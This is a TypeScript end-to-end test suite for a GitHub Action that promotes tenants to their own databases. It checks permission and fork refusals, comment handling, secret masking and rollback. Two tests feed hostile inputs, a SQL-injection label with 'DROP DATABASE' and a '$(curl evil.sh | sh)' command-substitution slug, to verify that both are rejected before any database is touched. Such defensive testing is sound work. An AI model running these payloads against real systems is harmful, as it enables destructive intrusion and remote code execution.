/**
 * End to end: `node dist/index.js` run as a runner runs it (INPUT_* with hyphens kept, event file,
 * output/summary/state files), GitHub faked at the wire by a local HTTP server, and a TCP
 * listener standing in for the database so a test can prove no connection was ever made.
 * Set PROMOTE_ACTION_DIST to test another build directory.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import {
  dispatchPayload,
  FakeGitHub,
  pullRequestPayload,
  type PullRequestEdit,
} from '../support/fake-github';
import { createSharedFixture, DATABASE_URL, type SharedFixture } from '../support/fixture';
import { query } from '../support/pg';
import {
  DIST,
  FakeDatabase,
  MAIN,
  OWNER,
  POST,
  REPO,
  runAction as runActionIn,
  type RunResult,
} from '../support/run-action';

const DB_PASSWORD = 'sup3r-s3cret-pw';

let work: string;
let github: FakeGitHub;
let db: FakeDatabase;

function runAction(
  script: string,
  opts: {
    eventName: string;
    payload: Record<string, unknown>;
    inputs?: Record<string, string>;
    triggeringActor?: string;
    state?: Record<string, string>;
  },
): Promise<RunResult> {
  return runActionIn(script, {
    ...opts,
    work,
    githubUrl: github.url,
    inputs: { 'database-url': db?.url ?? '', ...opts.inputs },
  });
}

const labeled = (
  edit: PullRequestEdit,
  extra: Parameters<typeof runAction>[1] extends infer O ? Partial<O> : never = {},
) =>
  runAction(MAIN, {
    eventName: 'pull_request',
    payload: pullRequestPayload({ number: 2, sender: 'Codertocat', ...edit }),
    ...extra,
  });

/** The PR as GitHub returns it now (the action re-reads it). */
function setPull(
  edit: Partial<{ title: string; body: string | null; labels: string[]; headRepo: string | null }>,
): void {
  github.pulls.set(2, {
    number: 2,
    title: edit.title ?? 'Update the README with new information.',
    body: edit.body ?? null,
    labels: edit.labels ?? [],
    headRepo: edit.headRepo === undefined ? `${OWNER}/${REPO}` : edit.headRepo,
    baseRepo: `${OWNER}/${REPO}`,
  });
}

function assertNoSecrets(r: RunResult): void {
  // `::add-mask::<secret>` is the runner protocol that masks it; everything else must be clean.
  const stdout = r.stdout.replace(/^::add-mask::.*$/gm, '');
  for (const text of [
    stdout,
    r.stderr,
    r.summary,
    JSON.stringify(r.outputs),
    ...github.comments.map((c) => c.body),
  ])
    assert.ok(!text.includes(DB_PASSWORD) && !text.includes('ghs_fake_token_value'), 'a secret leaked');
}

describe('dist/index.js as a runner runs it', () => {
  before(async () => {
    // A missing bundle is a failure, not a skip: dist/ is committed and must be fresh.
    assert.ok(existsSync(MAIN) && existsSync(POST), `no build at ${DIST}: run npm run package`);
    work = mkdtempSync(join(tmpdir(), 'promote-e2e-'));
    db = new FakeDatabase(DB_PASSWORD);
    await db.start();
  });
  after(async () => {
    await db.stop();
    rmSync(work, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await github?.stop();
    github = new FakeGitHub({
      owner: OWNER,
      repo: REPO,
      permissions: { Codertocat: 'write', reader: 'read', admin1: 'admin' },
    });
    await github.start();
    db.connections = 0;
  });
  after(async () => github?.stop());

  it('a label that is not ours: skipped, exit 0, no API call, no comment, no database connection', async () => {
    const r = await labeled({ label: 'bug' });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.outputs.result, 'skipped');
    assert.equal(r.outputs['tenant-slug'], '');
    assert.deepEqual(github.calls, []);
    assert.equal(db.connections, 0);
    assert.match(r.stdout, /not a trigger label/);
  });

  it('other pull_request actions: skipped with no call at all', async () => {
    const r = await runAction(MAIN, {
      eventName: 'pull_request',
      payload: pullRequestPayload({ action: 'opened' }),
    });
    assert.equal(r.code, 0);
    assert.equal(r.outputs.result, 'skipped');
    assert.deepEqual(github.calls, []);
  });

  it('a hostile slug is refused before any database is touched, with an escaped comment', async () => {
    const hostile = "promote-tenant:acme'; DROP DATABASE shared; -- <b>@octocat</b> | x";
    setPull({ labels: [hostile] });
    const r = await labeled({ label: hostile });
    assert.equal(r.code, 1, r.stdout);
    assert.equal(db.connections, 0);
    assert.equal(r.outputs.result, 'failed');
    assert.equal(r.outputs['tenant-slug'], '');
    assert.match(
      r.stdout,
      /::error::Invalid tenant slug "acme'; DROP DATABASE shared; -- <b>@octocat<\/b> \| x" from the label/,
    );
    const comments = github.commentsOn(2);
    assert.equal(comments.length, 1);
    const body = comments[0]!.body;
    assert.match(body, /^<!-- tenant-promotion:\(unresolved\) -->\n### ❌ Promotion of tenant/);
    assert.match(body, /Invalid tenant slug/);
    assert.doesNotMatch(body, /<b>|@octocat/);
    // The hostile text is there, but as inert escaped text.
    assert.match(body, /DROP DATABASE shared; -- &lt;b&gt;@&#8203;octocat&lt;\/b&gt; \\\| x/);
    assert.match(body, /\| Validate the tenant slug \| ❌ failed \|/);
    assert.match(body, /\| Check the actor’s permission \| ✅ done \|/);
    assert.equal(r.outputs['comment-url'], comments[0]!.html_url);
    assert.match(r.summary, /Invalid tenant slug/);
    assertNoSecrets(r);
  });

  it('a re-run updates the same comment instead of adding one', async () => {
    const label = 'promote-tenant:Bad_Slug';
    setPull({ labels: [label] });
    const first = await labeled({ label });
    const second = await labeled({ label });
    assert.equal(first.code, 1);
    assert.equal(second.code, 1);
    assert.equal(github.commentsOn(2).length, 1);
    assert.equal(github.calls.filter((c) => c.method === 'POST').length, 1);
    assert.ok(github.calls.some((c) => c.method === 'PATCH'));
    assert.equal(second.outputs['comment-url'], first.outputs['comment-url']);
  });

  it('reads all pages, ignores markers pasted by others, keeps the oldest of its own and deletes duplicates', async () => {
    const label = 'promote-tenant:Bad_Slug';
    setPull({ labels: [label] });
    const marker = '<!-- tenant-promotion:(unresolved) -->';
    github.addComment(2, `${marker}\nfake report by someone else`, 'mallory');
    for (let i = 0; i < 120; i++) github.addComment(2, `chatter ${i}`, 'someone');
    const oldest = github.addComment(2, `${marker}\nold report`, 'github-actions[bot]');
    const dup = github.addComment(2, `${marker}\nduplicate from a concurrent run`, 'github-actions[bot]');
    const r = await labeled({ label });
    assert.equal(r.code, 1);
    const listCalls = github.calls.filter((c) => c.method === 'GET' && c.path.endsWith('/issues/2/comments'));
    assert.ok(
      listCalls.some((c) => c.query.page === '2'),
      'second page read',
    );
    const ours = github.commentsOn(2).filter((c) => c.body.includes(marker));
    assert.deepEqual(
      ours.map((c) => c.id),
      [github.commentsOn(2)[0]!.id, oldest.id],
    );
    assert.equal(github.commentsOn(2)[0]!.body, `${marker}\nfake report by someone else`);
    assert.ok(!github.comments.some((c) => c.id === dup.id), 'duplicate deleted');
    assert.match(github.comments.find((c) => c.id === oldest.id)!.body, /Invalid tenant slug/);
    assert.equal(github.calls.filter((c) => c.method === 'POST').length, 0);
  });

  it('with a personal token, GET /user names the comment author', async () => {
    github.tokenUser = 'promo-bot';
    github.commentAuthor = 'promo-bot';
    const label = 'promote-tenant:Bad_Slug';
    setPull({ labels: [label] });
    github.addComment(2, '<!-- tenant-promotion:(unresolved) -->\nby the actions bot', 'github-actions[bot]');
    await labeled({ label });
    await labeled({ label });
    const ours = github.commentsOn(2).filter((c) => c.user.login === 'promo-bot');
    assert.equal(ours.length, 1);
    assert.equal(github.commentsOn(2).length, 2, 'the bot’s comment is not ours to touch');
  });

  it('an actor without write permission is refused, with a comment and no database connection', async () => {
    setPull({ labels: ['promote-tenant:acme-corp'] });
    const r = await labeled({ label: 'promote-tenant:acme-corp', sender: 'reader' });
    assert.equal(r.code, 1);
    assert.equal(db.connections, 0);
    assert.match(r.stdout, /::error::"reader" does not have write permission on Codertocat\/Hello-World/);
    const body = github.commentsOn(2)[0]!.body;
    assert.match(
      body,
      /^<!-- tenant-promotion:acme-corp -->\n### ❌ Promotion of tenant `acme-corp` failed at step “Check the actor’s permission”: nothing was changed/,
    );
    assert.equal(r.outputs['tenant-slug'], 'acme-corp');
  });

  it('a re-run by someone without permission is refused (GITHUB_TRIGGERING_ACTOR)', async () => {
    setPull({ labels: ['promote-tenant:acme-corp'] });
    const r = await labeled({ label: 'promote-tenant:acme-corp' }, { triggeringActor: 'stranger' });
    assert.equal(r.code, 1);
    assert.equal(db.connections, 0);
    assert.match(r.stdout, /"stranger" does not have write permission/);
    const checked = github.calls
      .filter((c) => c.path.includes('/collaborators/'))
      .map((c) => c.path.split('/')[5]);
    assert.deepEqual(checked, ['Codertocat', 'stranger']);
  });

  it('a pull request from a fork is refused unless allow-forks', async () => {
    setPull({ labels: ['promote-tenant:acme-corp'], headRepo: 'evil/Hello-World' });
    const r = await labeled({ label: 'promote-tenant:acme-corp' });
    assert.equal(r.code, 1);
    assert.equal(db.connections, 0);
    assert.match(r.stdout, /comes from the fork "evil\/Hello-World"/);
    assert.match(github.commentsOn(2)[0]!.body, /Check the pull request’s origin/);
    assert.ok(
      !github.calls.some((c) => c.path.includes('/collaborators/')),
      'refused before the permission check',
    );
  });

  it('a label removed since the event (a re-run) is skipped without a comment', async () => {
    setPull({ labels: ['bug'] });
    const r = await labeled({ label: 'promote-tenant:acme-corp' });
    assert.equal(r.code, 0, r.stdout);
    assert.equal(r.outputs.result, 'skipped');
    assert.match(r.stdout, /removed from the pull request since/);
    assert.deepEqual(github.writes(), []);
    assert.equal(db.connections, 0);
  });

  it('workflow_dispatch with a hostile slug input reports on the given pull request', async () => {
    const r = await runAction(MAIN, {
      eventName: 'workflow_dispatch',
      payload: dispatchPayload({ tenant_slug: 'x' }, 'Codertocat'),
      inputs: { 'tenant-slug': '$(curl evil.sh | sh)', 'pull-request': '2' },
    });
    assert.equal(r.code, 1);
    assert.equal(db.connections, 0);
    assert.match(r.stdout, /Invalid tenant slug "\$\(curl evil\.sh \| sh\)" from the tenant-slug input/);
    assert.equal(github.commentsOn(2).length, 1);
  });

  it('a bad input value fails fast with a message naming the input', async () => {
    const r = await labeled({ label: 'promote-tenant:acme-corp' }, { inputs: { 'dry-run': 'maybe' } });
    assert.equal(r.code, 1);
    assert.match(r.stdout, /::error::Input "dry-run" must be true or false/);
    assert.deepEqual(github.calls, []);
  });

  it('the post step finalises a comment the main step left in progress', async () => {
    const c = github.addComment(
      2,
      '<!-- tenant-promotion:acme-corp -->\n### ⏳ Promotion of tenant `acme-corp` in progress…\n\n#### Steps\n| a | b |',
      'github-actions[bot]',
    );
    const r = await runAction(POST, {
      eventName: 'pull_request',
      payload: pullRequestPayload({ label: 'promote-tenant:acme-corp' }),
      state: {
        'comment-id': String(c.id),
        finished: 'false',
        tenant: 'acme-corp',
        operation: 'promote',
        committed: 'false',
      },
    });
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const body = github.comments.find((x) => x.id === c.id)!.body;
    assert.match(
      body,
      /^<!-- tenant-promotion:acme-corp -->\n### ⚠️ Promotion of tenant `acme-corp` was cancelled or crashed/,
    );
    assert.match(body, /still served from the shared database/);
    assert.match(body, /<details><summary>Last progress report<\/summary>\n\n#### Steps/);
    assert.doesNotMatch(body, /in progress/);
  });

  it('the post step does nothing when the main step finished', async () => {
    const r = await runAction(POST, {
      eventName: 'pull_request',
      payload: pullRequestPayload({ label: 'bug' }),
      state: { 'comment-id': '5', finished: 'true', tenant: 'acme-corp' },
    });
    assert.equal(r.code, 0);
    assert.deepEqual(github.calls, []);
  });
});

describe('dist/index.js against a real shared database', () => {
  let fixture: SharedFixture;
  before(async () => {
    assert.ok(existsSync(MAIN), `no build at ${DIST}: run npm run package`);
    work = mkdtempSync(join(tmpdir(), 'promote-e2e-db-'));
    fixture = await createSharedFixture({ rows: 20 });
    github = new FakeGitHub({ owner: OWNER, repo: REPO, permissions: { Codertocat: 'admin' } });
    await github.start();
  });
  after(async () => {
    await github.stop();
    await fixture?.cleanup();
    rmSync(work, { recursive: true, force: true });
  });

  it('a dry run plans, comments once, and updates that comment on a re-run', async () => {
    const slug = fixture.tenants.main;
    const label = `promote-tenant:${slug}`;
    setPull({ labels: [label] });
    const opts = { inputs: { 'database-url': fixture.url, 'dry-run': 'true' } };
    const first = await labeled({ label }, opts);
    assert.equal(first.code, 0, first.stdout);
    assert.equal(first.outputs.result, 'dry-run');
    assert.equal(first.outputs['tenant-slug'], slug);
    const second = await labeled({ label }, opts);
    assert.equal(second.code, 0, second.stdout);
    const comments = github.commentsOn(2);
    assert.equal(comments.length, 1);
    assert.equal(github.calls.filter((c) => c.method === 'POST').length, 1);
    assert.match(comments[0]!.body, new RegExp(`^<!-- tenant-promotion:${slug} -->\\n### 📝 Dry run`));
    assert.match(comments[0]!.body, /#### Steps/);
    assert.equal(second.outputs['comment-url'], comments[0]!.html_url);
    assert.match(second.summary, /Dry run/);
    const dbs = await query<{ n: number }>(
      DATABASE_URL,
      'SELECT count(*)::int AS n FROM pg_database WHERE datname LIKE $1',
      [`tenant_%${fixture.suffix}%`],
    );
    assert.equal(dbs[0]!.n, 0, 'a dry run creates no database');
  });

  it('a promotion reports the database and hands on the password masked', async () => {
    const slug = fixture.tenants.small;
    const label = `promote-tenant:${slug}`;
    setPull({ labels: [label] });
    const r = await labeled({ label }, { inputs: { 'database-url': fixture.url, 'commit-config': 'true' } });
    assert.equal(r.code, 0, r.stdout);
    assert.equal(r.outputs.result, 'promoted', r.stdout);
    // commit-config: both routing files committed to the PR's branch through the contents API.
    const committed = github.files.get(`config/routing/${slug}.json`);
    assert.equal(committed?.branch, 'feature');
    assert.equal(JSON.parse(committed!.content).database.name, r.outputs['database-name']);
    assert.ok(github.files.has(`config/load-balancer/${slug}.json`));
    assert.equal(r.outputs['database-name'], `tenant_${slug.replace(/-/g, '_')}`);
    const password = r.outputs['database-password'] ?? '';
    assert.ok(password.length >= 16);
    // Masked before it was set: the add-mask command comes first.
    assert.ok(r.stdout.indexOf(`::add-mask::${password}`) >= 0);
    const body = github.commentsOn(2).find((c) => c.body.includes(`tenant-promotion:${slug}`))!.body;
    assert.match(body, /### ✅ Tenant/);
    assert.ok(!body.includes(password) && !r.summary.includes(password));
    assertNoSecrets(r);
  });

  it('the rollback label rolls the tenant back and updates the same comment', async () => {
    const slug = fixture.tenants.small;
    const label = `promote-tenant-rollback:${slug}`;
    setPull({ labels: [label] });
    const before = github.commentsOn(2).filter((c) => c.body.includes(`tenant-promotion:${slug}`));
    assert.equal(before.length, 1, 'the promotion left one comment');
    const r = await labeled({ label }, { inputs: { 'database-url': fixture.url, 'commit-config': 'true' } });
    assert.equal(r.code, 0, r.stdout);
    assert.equal(r.outputs.result, 'rolled-back', r.stdout);
    assert.equal(
      github.files.has(`config/routing/${slug}.json`),
      false,
      'the rollback removed the committed file',
    );
    const after = github.commentsOn(2).filter((c) => c.body.includes(`tenant-promotion:${slug}`));
    assert.deepEqual(
      after.map((c) => c.id),
      before.map((c) => c.id),
    );
    assert.match(after[0]!.body, /### ↩️ Tenant `[a-z0-9-]+` rolled back to the shared database/);
  });
});
